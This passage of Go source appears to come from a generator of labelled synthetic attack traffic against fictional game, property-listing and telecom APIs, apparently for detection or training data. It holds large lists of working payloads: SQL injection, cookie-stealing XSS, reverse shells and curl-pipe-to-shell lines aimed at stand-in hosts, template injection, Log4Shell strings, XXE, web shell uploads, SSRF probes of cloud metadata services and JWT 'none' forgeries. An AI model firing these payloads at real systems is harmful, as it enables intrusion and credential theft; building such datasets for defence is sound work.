		return g.ok(u, "POST", "/v1/chat/channels/global-eu/messages", h6JSONH(), h6JSONOf(map[string]any{"text": p, "client_msg_id": g.alnum(26, h6Upper)}), 201, `{"id":"`+g.digits(19)+`"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 19 profile, JSON at depth
		u := g.atk(w.atkGame)
		return g.ok(u, "PATCH", "/v1/players/me", h6JSONH(), h6JSONOf(map[string]any{"profile": map[string]any{"bio": "hi", "socials": map[string]any{"twitch": p}}}), 200, `{"ok":true}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 20 GraphQL variable
		u := g.atk(w.atkGame)
		return g.ok(u, "POST", "/graphql", h6JSONH(), h6JSONOf(map[string]any{"query": "query Find($h: String!) { player(handle: $h) { id handle level } }", "variables": map[string]any{"h": p}}), 200, `{"data":{"player":null}}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 21 X- header
		u := g.atk(w.atkGame)
		return g.ok(u, "GET", "/v1/inventory?per_page=50", map[string]string{"X-Client-Build": p}, "", 200, `{"items":[]}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 22 cookie
		u := g.atk(w.atkGame)
		return g.ok(u, "GET", "/v1/players/me", map[string]string{"Cookie": "nb_session=" + g.alnum(32, h6AN) + "; region=" + url.QueryEscape(p)}, "", 200, `{"id":"plr_99000000"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 23 bug report
		u := g.atk(w.atkGame)
		return g.ok(u, "POST", "/v1/reports", h6JSONH(), h6JSONOf(map[string]any{"type": "bug", "text": p, "client_build": "1.42.0"}), 201, `{"id":"rep_`+g.alnum(10, h6AN)+`"}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 24 Referer
		u := g.atk(w.atkGame)
		return g.ok(u, "GET", "/v1/leaderboards/s10?limit=50", map[string]string{"Referer": p}, "", 200, `{"entries":[]}`)
	},
	func(g *h6Gen, w *h6World, p string) *h6X { // 25 application notes (top level)
		u := g.atk(w.atkHome)
		return g.ok(u, "POST", "/api/listings/search", h6JSONH(), h6JSONOf(map[string]any{"query": map[string]any{"city": "Austin", "keywords": p}, "page": map[string]any{"number": 1, "size": 24}}), 200, `{"data":[]}`)
	},
}

// h6Spread places each payload, cycling over the places from start with a stride.
func (g *h6Gen) spread(w *h6World, payloads []string, start, stride int, label ...string) {
	for i, p := range payloads {
		idx := (start + i*stride) % len(h6Places)
		if strings.Contains(p, "%") && (idx == 7 || idx == 14 || idx == 21 || idx == 24) {
			idx++ // percent-encoded payloads go where values are URL-decoded
		}
		pl := h6Places[idx]
		if strings.ContainsAny(p, "\r\n") {
			pl = h6Places[3]
		}
		if strings.Contains(p, "%25") { // already double-encoded: JSON only
			pl = h6Places[[]int{3, 10, 18, 20, 23}[i%5]]
		}
		g.attackX(pl(g, w, p), label...)
	}
}

var h6SQLiPayloads = []string{
	`' OR '1'='1`, `1' OR 1=1-- -`, `admin'--`, `admin' #`, `1 UNION SELECT null,username,password FROM users--`,
	`-1' UNION ALL SELECT 1,@@version,3-- -`, `1;SELECT pg_sleep(7)--`, `1'; WAITFOR DELAY '0:0:5'--`,
	`1 AND (SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1`, `1' AND SLEEP(5)#`,
	`' uNiOn/**/sElEcT/**/table_name,2/**/fRoM/**/information_schema.tables--`, `1/**/OR/**/1=1`,
	`%27%20OR%201%3D1--`, `1' AND extractvalue(1,concat(0x7e,(SELECT user())))-- -`, `1 AND 1=CONVERT(int,(SELECT @@version))--`,
	`' OR 'x'='x`, `1) OR (1=1`, `';shutdown--`, `x@y.test' -- `, `1' ORDER BY 10-- -`,
	`' AND 1=(SELECT COUNT(*) FROM sysobjects); --`, `'||(SELECT version())||'`, `1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -`,
	`"; DROP TABLE players; --`, `admin')--`, `' OR 1=1 LIMIT 1 OFFSET 1 --`, `' oR 1 lIkE 1 --`,
	`1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64`, `1; DECLARE @q varchar(99); SET @q='x'; EXEC(@q)--`,
	`1 AND 1=1 UNION SELECT NULL,NULL,NULL--`, `O'Brien' AND 1=1 UNION SELECT name,2 FROM sqlite_master--`,
	`1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- x`, `'/**/OR/**/'1'='1'/**/--`, `1 waitfor delay '00:00:07'`,
	`') OR ('a'='a`, `+44'||pg_sleep(10)--`, `1 OR 1=1`, `-1 UNION SELECT 1,group_concat(email),3 FROM accounts`,
	`' AND updatexml(1,concat(0x3a,(SELECT database())),1)='`, `1'%20UnIoN%20SeLeCt%201,2,3--%20`,
	`x' AND 1=(SELECT 1 FROM pg_sleep(5))--`, `1 AND 7533=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)`, `';SELECT load_extension('x')--`,
	`1'/*!50000UNION*//*!50000SELECT*/1,2--+`, `admin' or '1'='1'/*`, `1 UNION%0aSELECT%0auser,pass%0aFROM%0aadmins`,
	`tom' AND '1'='1' --`, `" OR ""="`, `0 OR (SELECT 1 FROM dual WHERE 1=1)=1`, `1' HAVING 1=1--`,
	`x') UNION SELECT password_hash,NULL FROM players WHERE ('1'='1`, `%2527%2520OR%25201%253D1%2520--`,
	`1 and 1=2 union select 1,table_name from information_schema.tables`, `'; INSERT INTO admins(name) VALUES('x')--`,
}

// SQL injections the database answered with its error text: also verbose.
var h6SQLiErr = [][2]string{
	{`1'`, `{"error":"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''' at line 1"}`},
	{`' OR 1=1--`, `{"error":"internal","detail":"pq: syntax error at or near \"OR\""}`},
	{`1' AND '1'='2' UNION SELECT 1,2--`, `{"message":"ERROR 1222 (21000): The used SELECT statements have a different number of columns"}`},
	{`x' UNION SELECT sqlite_version()--`, `{"error":"SQLITE_ERROR: SELECTs to the left and right of UNION do not have the same number of result columns"}`},
	{`1' AND 1=CONVERT(int,@@version)--`, `{"error":"Conversion failed when converting the nvarchar value 'Microsoft SQL Server 2019 (RTM) - 15.0.2000.5' to data type int.","code":"SqlException","number":245}`},
	{`' OR ''='`, `{"error":"ORA-01756: quoted string not properly terminated"}`},
	{`1 AND (SELECT 1 FROM x)`, `{"error":"ERROR: relation \"x\" does not exist\n  LINE 1: ...FROM listings WHERE id = 1 AND (SELECT 1 FROM x)\n                                                          ^"}`},
	{`admin'/*`, `{"error":"Unclosed quotation mark after the character string 'admin'/*'.\nIncorrect syntax near 'admin'."}`},
	{`1)) OR 1=1--`, `{"code":"ER_PARSE_ERROR","errno":1064,"sqlMessage":"You have an error in your SQL syntax near ')) OR 1=1--' at line 1","sqlState":"42000"}`},
	{`' UNION SELECT NULL--`, `{"error":"DB2 SQL Error: SQLCODE=-104, SQLSTATE=42601, SQLERRMC=UNION;ECT * FROM LISTINGS;, DRIVER=4.26.14"}`},
	{`1'||'`, `{"error":"invalid input syntax for type integer: \"1'||'\""}`},
	{`9 OR sleep(3)#`, `{"error":"SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax"}`},
}

var h6XSSPayloads = []string{
	`<script>alert(1)</script>`, `<img src=x onerror=alert(document.domain)>`, `<svg/onload=alert(1)>`,
	`"><script>fetch('//c2.evil-cdn.example/c?'+document.cookie)</script>`, `javascript:alert(1)`, `java&#x09;script:alert(1)`,
	`JaVaScRiPt:alert(document.cookie)`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<iframe src=javascript:alert(1)>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<a href="javascript&colon;alert(1)">win a skin</a>`,
	`<input autofocus onfocus=alert(1)>`, `<marquee onstart=alert(1)>gg</marquee>`, `<video><source onerror=alert(1)>`, `<ScRiPt>prompt(1)</sCrIpT>`,
	`%3Cscript%3Ealert(1)%3C%2Fscript%3E`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<object data="javascript:alert(1)">`,
	`<embed src="data:text/html,<script>alert(1)</script>">`, `<img src=x onerror="&#97;lert(1)">`, `" onmouseover="alert(1)" x="`,
	`<form action=javascript:alert(1)><button>claim reward</button></form>`, `<svg><script xlink:href=data:,alert(1)></script>`, `<img/src/onerror=alert(1)>`,
	`<x contenteditable onblur=alert(1)>lose focus!`, `<a href="vbscript:msgbox(1)">x</a>`, `<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<sCrIpT src=//xss.example/x.js></ScRiPt>`, `<img src="x" onerror="eval(atob('YWxlcnQoMSk='))">`,
	`%253Csvg%2520onload%253Dalert(1)%253E`, `<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>`, `<body/onpageshow=alert(1)>`, `<div onpointerover="alert(1)">MOVE HERE</div>`,
	`'><img src=1 onerror=alert(String.fromCharCode(88,83,83))>`, `<a href=" &#14;javascript:alert(1)">click</a>`, `<isindex type=image src=1 onerror=alert(1)>`,
	`<style onload=alert(1)></style>`, `<audio src=x onerror=alert(1)>`, `<select autofocus onfocus=alert(1)>`, `<textarea autofocus onfocus=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`, `</title><script>alert(1)</script>`, `<base href="javascript:/a/-alert(1)///////">`,
	`<table background="javascript:alert(1)">`, `<iframe src="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"></iframe>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`, `<img src=x:x onerror=alert(1)//`,
	`<p>Great loft!</p><script>new Image().src='https://c2.evil-cdn.example/?c='+document.cookie</script>`,
	`<img src=1 oNeRrOr=confirm(1)>`, `<svg/onload=top['al'+'ert'](1)>`, `<svg	onload=alert(1)>`, `<img src=x onerror
=alert(1)>`,
	`<iframe/src="javas&#99;ript:alert(1)">`, `<a href="&#106;avascript:alert(1)">profile</a>`, `<button formaction=javascript:alert(1)>go`,
}

var h6OtherPayloads = []string{
	// command injection
	`; id`, `| cat /etc/passwd`, `$(whoami)`, "`uname -a`", `&& curl http://c2.evil-cdn.example/x.sh | sh`, `;${IFS}cat${IFS}/etc/passwd`,
	`$'\x69\x64'`, `;{cat,/etc/passwd}`, `;/???/c?t /???/p??s??`, `;w'h'o'am'i`, `; c\at /etc/shadow`, `%0aid`, `+447700900123; nc -e /bin/sh 198.51.100.9 4444`,
	`$(curl -s c2.evil-cdn.example/p|bash)`, `|| sleep 10 ||`, `& ping -n 5 127.0.0.1 &`, `a;wget http://c2.evil-cdn.example/m -O /tmp/m;chmod +x /tmp/m;/tmp/m`,
	`%7Cid`, "`id`", `;bash -i >& /dev/tcp/198.51.100.9/4444 0>&1`,
	// path traversal
	`../../../../etc/passwd`, `..%2f..%2f..%2f..%2fetc%2fpasswd`, `....//....//....//etc/passwd`, `..\..\..\..\windows\win.ini`,
	`%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow`, `../../../../etc/passwd%00.jpg`, `%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd`,
	`..%252f..%252f..%252fetc%252fhosts`, `/var/www/html/../../../etc/passwd`, `../../../../proc/self/environ`, `..%5c..%5c..%5cboot.ini`,
	`..%c0%af..%c0%af..%c0%afetc/passwd`,
	// SSTI
	`{{config.__class__.__init__.__globals__['os'].popen('id').read()}}`, `{{''.__class__.__mro__[1].__subclasses__()}}`,
	`{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}`, `{{['id']|filter('system')}}`, `{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`,
	`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, `#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))`,
	`<%= system('id') %>`, `{system('cat /etc/passwd')}`, `__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x`,
	`@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))`, `{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{c()._module.__builtins__['__import__']('os').system('id')}}{% endif %}{% endfor %}`,
	`{{lipsum.__globals__.os.popen('cat /etc/passwd').read()}}`, `${"freemarker.template.utility.Execute"?new()("whoami")}`,
	// Log4Shell
	`${jndi:ldap://198.51.100.7:1389/a}`, `${${lower:j}ndi:${lower:l}dap://c2.evil-cdn.example/x}`, `${${::-j}${::-n}${::-d}${::-i}:rmi://c2.evil-cdn.example/o}`,
	`${jndi:dns://c2.evil-cdn.example/q}`, `${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//c2.evil-cdn.example/z}`, `${jndi:ldaps://c2.evil-cdn.example:636/Basic/Command/Base64/aWQ=}`,
	`${${upper:j}ndi:${upper:r}mi://198.51.100.7/x}`,
}

func (g *h6Gen) attackTraffic(w *h6World) {
	g.spread(w, h6SQLiPayloads, 0, 7, h6SQLi)
	for i, e := range h6SQLiErr {
		x := h6Places[[]int{0, 8, 16, 9, 10, 2, 17, 11, 20, 13, 1, 3}[i]](g, w, e[0])
		x.status, x.rbody = 500, e[1]
		g.attackX(x, h6SQLi, h6Verb)
	}
	g.spread(w, h6XSSPayloads, 3, 5, h6XSS)
	g.spread(w, h6OtherPayloads, 1, 11, h6Other)
	g.xssFiles(w)
	g.otherSpecial(w)
	g.ssrfAttacks(w)
	g.jwtAttacks(w)
	g.verboseAttacks(w)
	g.sensitiveAttacks(w)
	g.limitAttacks(w)
	// shuffle the attacks (seeded) so that the kinds are spread over time
	g.r.Shuffle(len(g.attacks), func(i, j int) { g.attacks[i], g.attacks[j] = g.attacks[j], g.attacks[i] })
}

func (g *h6Gen) xssFiles(w *h6World) {
	files := [][2]string{
		{"floorplan.svg", `<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="300"><rect width="400" height="300" fill="#eee"/><script type="text/javascript">fetch('https://c2.evil-cdn.example/?c='+document.cookie)</script></svg>`},
		{"logo.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle cx="50" cy="50" r="40"/></svg>`},
		{"brochure.html", `<!DOCTYPE html><html><head><title>Brochure</title></head><body><h1>Loft</h1><script>document.location='https://c2.evil-cdn.example/steal?'+document.cookie</script></body></html>`},
		{"map.svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text x="10" y="20">Open map</text></a></svg>`},
		{"badge.svg", `<svg xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="alert(1)"/></svg>`},
		{"tour.html", `<html><body><img src=x onerror="alert('xss')"><p>Virtual tour</p></body></html>`},
	}
	for i, f := range files {
		bd := "----WebKitFormBoundary" + g.alnum(16, h6AN)
		var x *h6X
		if i%2 == 0 {
			u := g.atk(w.atkHome)
			body := h6Multipart(bd, [3]string{"caption", "", "Floor plan"}, [3]string{"photo", f[0], f[1]})
			x = g.ok(u, "POST", "/api/listings/88123/photos", map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201, `{"id":"ph_`+g.alnum(10, h6AN)+`"}`)
		} else {
			u := g.atk(w.atkGame)
			body := h6Multipart(bd, [3]string{"kind", "", "guild_emblem"}, [3]string{"file", f[0], f[1]})
			x = g.ok(u, "POST", "/v1/players/me/avatar", map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201, `{"ok":true}`)
		}
		g.attackX(x, h6XSS)
	}
	// javascript: URLs in URL-valued fields
	for i, p := range []string{"javascript:alert(document.cookie)", "JAVASCRIPT:fetch('//c2.evil-cdn.example/'+localStorage.token)", "data:text/html,<script>alert(1)</script>", "javascript://%0aalert(1)"} {
		if i%2 == 0 {
			u := g.atk(w.atkGame)
			g.attackX(g.ok(u, "PATCH", "/v1/players/me", h6JSONH(), h6JSONOf(map[string]any{"profile": map[string]any{"website": p}}), 200, `{"ok":true}`), h6XSS)
		} else {
			u := g.atk(w.atkTel)
			g.attackX(g.ok(u, "PUT", "/v2/accounts/"+u.acct+"/webhooks/wh_"+g.alnum(12, h6AN), h6JSONH(), h6JSONOf(map[string]any{"url": p, "events": []string{"message.delivered"}}), 400, `{"error":"url must be https"}`), h6XSS)
		}
	}
}

func (g *h6Gen) otherSpecial(w *h6World) {
	// NoSQL operators on identity and credential fields, or running code
	nosql := []struct{ path, body string }{
		{"/v1/auth/login", `{"username":"MaxPower","password":{"$ne":null}}`},
		{"/v1/auth/login", `{"email":{"$gt":""},"password":{"$gt":""}}`},
		{"/v1/auth/login", `{"username":{"$regex":"^adm"},"password":{"$ne":"x"}}`},
		{"/v1/players/query", `{"filter":{"$where":"this.credits > 0 || sleep(5000)"}}`},
		{"/v1/players/query", `{"filter":{"$function":{"body":"function(){ return sleep(3000) }","args":[],"lang":"js"}}}`},
		{"/v1/auth/login", `{"username":"admin","password":{"$in":["admin","123456","password"]}}`},
	}
	for _, n := range nosql {
		u := g.atk(w.atkGame)
		x := g.ok(u, "POST", n.path, h6JSONH(), n.body, 401, `{"error":"invalid credentials"}`)
		if strings.Contains(n.path, "login") {
			x.noAuth = true
		}
		g.attackX(x, h6Other)
	}
	for _, f := range []string{"username=admin&password[$ne]=wrong", "email[$gt]=&password[$gt]=", "user[$regex]=.*&pass[$ne]=1"} {
		u := g.atk(w.atkHome)
		x := g.ok(u, "POST", "/api/auth/login", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, f, 401, `{"error":"invalid credentials"}`)
		x.noAuth = true
		g.attackX(x, h6Other)
	}
	for _, q := range []string{"$where=this.price%3E0%7C%7Csleep(5000)", "token[$ne]=x&acct=1"} {
		u := g.atk(w.atkHome)
		g.attackX(g.ok(u, "GET", "/api/listings?"+q, nil, "", 200, `{"data":[]}`), h6Other)
	}
	// XXE in agency feeds and uploads
	xxe := []string{
		`<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><feed><listing ref="L-1"><title>&xxe;</title></listing></feed>`,
		`<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY % remote SYSTEM "http://c2.evil-cdn.example/evil.dtd"> %remote;]><feed><listing ref="L-2"><title>x</title></listing></feed>`,
		`<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><feed><listing><title>&lol4;</title></listing></feed>`,
		`<?xml version="1.0"?><feed xmlns:xi="http://www.w3.org/2001/XInclude"><listing ref="L-3"><title><xi:include parse="text" href="../../../../etc/passwd"/></title></listing></feed>`,
		`<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]><feed><listing><description>&xxe;</description></listing></feed>`,
		`<?xml version="1.0"?><!DOCTYPE data SYSTEM "http://c2.evil-cdn.example/ext.dtd"><feed><listing><title>t</title></listing></feed>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "file:///etc/hostname"><!ENTITY % b "<!ENTITY &#x25; c SYSTEM 'http://c2.evil-cdn.example/?x=%a;'>">%b;%c;]><feed/>`,
	}
	for _, b := range xxe {
		u := g.atk(w.atkHome)
		g.attackX(g.ok(u, "POST", "/api/feeds/agency", map[string]string{"Content-Type": "application/xml"}, b, 400, `{"error":"feed rejected"}`), h6Other)
	}
	// XXE in uploaded SVG/XML files
	for _, f := range [][2]string{
		{"plan.svg", `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg" width="128" height="128"><text font-size="16" x="0" y="16">&xxe;</text></svg>`},
		{"valuation.xml", `<?xml version="1.0"?><!DOCTYPE v [<!ENTITY x SYSTEM "http://c2.evil-cdn.example/v.dtd">]><valuation><amount>&x;</amount></valuation>`},
	} {
		u := g.atk(w.atkHome)
		bd := "----WebKitFormBoundary" + g.alnum(16, h6AN)
		body := h6Multipart(bd, [3]string{"type", "", "appraisal"}, [3]string{"file", f[0], f[1]})
		g.attackX(g.ok(u, "POST", "/api/mortgage/applications/app_"+g.alnum(16, h6AN)+"/documents", map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201, `{"id":"doc_x"}`), h6Other)
	}
	// traversal in uploaded file names and raw paths
	for _, fn := range []string{"../../../../var/www/html/shell.php", `..\..\..\inetpub\wwwroot\cmd.aspx`, "....//....//etc/cron.d/x"} {
		u := g.atk(w.atkHome)
		bd := "----WebKitFormBoundary" + g.alnum(16, h6AN)
		body := h6Multipart(bd, [3]string{"type", "", "id"}, [3]string{"file", fn, "<?php system($_GET['c']); ?>"})
		g.attackX(g.ok(u, "POST", "/api/mortgage/applications/app_"+g.alnum(16, h6AN)+"/documents", map[string]string{"Content-Type": "multipart/form-data; boundary=" + bd}, body, 201, `{"id":"doc_y"}`), h6Other)
	}
	for _, p := range []string{"/v2/media/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/v2/media/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/v2/media/..;/..;/..;/etc/passwd"} {
		u := g.atk(w.atkTel)
		g.attackX(g.ok(u, "GET", p, nil, "", 400, `{"error":"bad path"}`), h6Other)
	}
}

var h6SSRFTargets = []string{
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://[fd00:ec2::254]/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
	"http://127.0.0.1:6379/", "http://localhost:8080/actuator/env", "http://2130706433/", "http://0177.0.0.1/server-status", "http://0x7f.0x0.0x0.0x1:9000/",
	"http://127.1/admin", "http://[::ffff:127.0.0.1]/", "http://[::1]:22/", "http://10.0.0.12:9200/_cat/indices", "http://192.168.1.1/cgi-bin/luci",
	"http://172.16.4.20:8500/v1/agent/self", "http://100.64.0.1/", "http://169.254.170.2/v2/credentials", "http://app.10.0.0.1.nip.io/",
	"http://7f000001.nip.io/", "http://foo.lvh.me:3000/", "http://localtest.me/", "http://①②⑦.⓪.⓪.①/", "http://cdn.homestead.test@127.0.0.1/",
	"https://expected-host.example@169.254.169.254/latest/user-data", "gopher://127.0.0.1:6379/_SET%20x%20y%0D%0A", "dict://127.0.0.1:11211/stats",
	"ldap://10.0.0.5:389/dc=corp", "http://0251.0376.0251.0376/latest/meta-data/", "http://2852039166/latest/meta-data/",
	"http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://100.100.100.200/latest/meta-data/", "http://0xa9fea9fe/", "http://10.1/", "http://192.168.0.254:8443/",
	"http://metadata.google.internal./computeMetadata/v1/instance/service-accounts/default/token", "file:///home/app/config/settings.json", "http://[0:0:0:0:0:ffff:7f00:1]:8080/",
	"http://localhost.:5432/", "HTTP://LOCALHOST:2375/containers/json", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://169.254.169.254/opc/v1/instance/",
	"http://017700000001/", "http://[fd12:3456:789a::1]/", "http://127.127.127.127/", "http://172.31.255.1/", "http://192.168.49.2:10250/pods", "http://100.127.0.9/", "http://10.96.0.1/api",
	"http://127.0.0.1.nip.io:8080/", "http://169.254.169.254/computeMetadata/v1/", "http://[::1]/", "gopher://10.0.0.7:25/_HELO%20x", "http://192.168.1.10.nip.io/", "https://10.0.0.1.nip.io/", "http://localhost:9090/-/reload", "http://127.0.0.1:2379/v2/keys/", "https://169.254.169.254.sslip.io/latest/meta-data/", "http://[fe80::a9fe:a9fe]/",
}

func (g *h6Gen) ssrfAttacks(w *h6World) {
	for i, t := range h6SSRFTargets {
		var x *h6X
		switch i % 8 {
		case 0:
			u := g.atk(w.atkTel)
			x = g.ok(u, "POST", "/v2/accounts/"+u.acct+"/messages", h6JSONH(), h6JSONOf(map[string]any{"to": "+447700900123", "from": "+447700900999", "body": "test", "status_callback": t}), 201, `{"sid":"SM`+g.alnum(32, h6Hex)+`","status":"queued"}`)
		case 1:
			u := g.atk(w.atkTel)
			x = g.ok(u, "PUT", "/v2/accounts/"+u.acct+"/webhooks/wh_"+g.alnum(12, h6AN), h6JSONH(), h6JSONOf(map[string]any{"url": t, "events": []string{"message.delivered"}}), 200, `{"active":true}`)
		case 2:
			u := g.atk(w.atkHome)
			x = g.ok(u, "POST", "/api/listings/88123/photos/import", h6JSONH(), h6JSONOf(map[string]any{"image_url": t}), 202, `{"status":"queued"}`)
		case 3:
			u := g.atk(w.atkHome)
			feed := `<?xml version="1.0" encoding="UTF-8"?><feed xmlns="urn:homestead:feed:2"><listing ref="L-` + g.digits(6) + `"><title>Flat</title><photo url="` + h6XMLEsc(t) + `"/></listing></feed>`
			x = g.ok(u, "POST", "/api/feeds/agency", map[string]string{"Content-Type": "application/xml"}, feed, 202, `{"accepted":1}`)
		case 4:
			u := g.atk(w.atkGame)
			x = g.ok(u, "PATCH", "/v1/players/me", h6JSONH(), h6JSONOf(map[string]any{"profile": map[string]any{"avatar_url": t}}), 200, `{"ok":true}`)
		case 5:
			u := g.atk(w.atkGame)
			x = g.ok(u, "POST", "/graphql", h6JSONH(), h6JSONOf(map[string]any{"query": "mutation Import($url: String!) { importAvatar(url: $url) { ok } }", "variables": map[string]any{"url": t}}), 200, `{"data":{"importAvatar":{"ok":false}}}`)
		case 6:
			u := g.atk(w.atkGame)
			x = g.ok(u, "GET", "/v1/media/proxy?"+h6Q("url", t, "w", "256"), nil, "", 502, `{"error":"upstream fetch failed"}`)
		default:
			u := g.atk(w.atkTel)
			x = g.ok(u, "POST", "/v2/accounts/"+u.acct+"/calls", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}, h6Form("To", "+447700900123", "From", "+447700900999", "Url", t), 201, `{"sid":"CA`+g.alnum(32, h6Hex)+`","status":"queued"}`)
		}
		g.attackX(x, h6SSRF)
	}
	// host-override headers
	for _, h := range [][2]string{{"X-Forwarded-Host", "169.254.169.254"}, {"X-Original-Host", "metadata.google.internal"}, {"X-Host", "127.0.0.1"},
		{"X-Forwarded-Server", "10.0.0.8"}, {"X-HTTP-Host-Override", "localhost"}, {"X-Forwarded-Host", "192.168.10.5:8080"}, {"X-Host", "[fd00:ec2::254]"}} {
		u := g.atk([][]*h6User{w.atkTel, w.atkHome, w.atkGame}[g.r.IntN(3)])
		path := map[string]string{h6Tel: "/v2/numbers/available?country=US", h6Home: "/api/listings?per_page=24", h6Game: "/v1/leaderboards/s10?limit=50"}[u.host]
		g.attackX(g.ok(u, "GET", path, map[string]string{h[0]: h[1]}, "", 200, `{"data":[]}`), h6SSRF)
	}
	// metadata fetched and echoed back: SSRF plus leaked cloud credentials
	leaks := []string{
		`{"Code":"Success","LastUpdated":"2026-11-24T08:12:44Z","Type":"AWS-HMAC","AccessKeyId":"ASIA%s","SecretAccessKey":"%s","Token":"IQoJb3JpZ2luX2VjE%s","Expiration":"2026-11-24T14:40:11Z"}`,
		`{"preview":{"status":200,"body":"{\"AccessKeyId\":\"ASIA%s\",\"SecretAccessKey\":\"%s\",\"Token\":\"FwoGZXIvYXdzE%s\"}"}}`,
		`{"fetched":"http://169.254.169.254/latest/meta-data/iam/security-credentials/nebula-prod","content":"aws_access_key_id=AKIA%s\naws_secret_access_key=%s\nsession=%s"}`,
	}
	targets := []string{"http://169.254.169.254/latest/meta-data/iam/security-credentials/relaytel-media-role", "http://[::ffff:169.254.169.254]/latest/meta-data/iam/security-credentials/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/nebula-prod"}
	for i := range leaks {
		body := fmt.Sprintf(leaks[i], g.alnum(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), g.alnum(40, h6AN+"+/"), g.alnum(120, h6AN))
		var x *h6X
		switch i {
		case 0:
			u := g.atk(w.atkGame)
			x = g.ok(u, "GET", "/v1/media/proxy?"+h6Q("url", targets[i]), nil, "", 200, body)
		case 1:
			u := g.atk(w.atkHome)
			x = g.ok(u, "POST", "/api/listings/88123/photos/import", h6JSONH(), h6JSONOf(map[string]any{"image_url": targets[i], "preview": true}), 200, body)
		default:
			u := g.atk(w.atkTel)
			x = g.ok(u, "POST", "/v2/accounts/"+u.acct+"/webhooks/test", h6JSONH(), h6JSONOf(map[string]any{"url": targets[i]}), 200, body)
		}
		g.attackX(x, h6SSRF, h6Sens)
	}
}

func (g *h6Gen) jwtAttacks(w *h6World) {
	sigOf := func(n int) string {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(g.r.IntN(256))
		}
		return h6B64(b)
	}
	enc := func(h, c map[string]any) string {
		return h6B64([]byte(h6JSONOf(h))) + "." + h6B64([]byte(h6JSONOf(c)))
	}
	rsaN := h6B64([]byte(g.alnum(256, h6AN)))
	type variant func(c map[string]any) string
	variants := []variant{
		func(c map[string]any) string { return enc(map[string]any{"alg": "none", "typ": "JWT"}, c) + "." },
		func(c map[string]any) string { return enc(map[string]any{"alg": "None", "typ": "JWT"}, c) + "." },
		func(c map[string]any) string { return enc(map[string]any{"alg": "NONE"}, c) + "." },
		func(c map[string]any) string { return enc(map[string]any{"alg": "nOnE", "typ": "JWT"}, c) + "." },
		func(c map[string]any) string {
			c["role"] = "admin"
			return enc(map[string]any{"alg": "none", "typ": "JWT"}, c) + "."
		},
		func(c map[string]any) string {
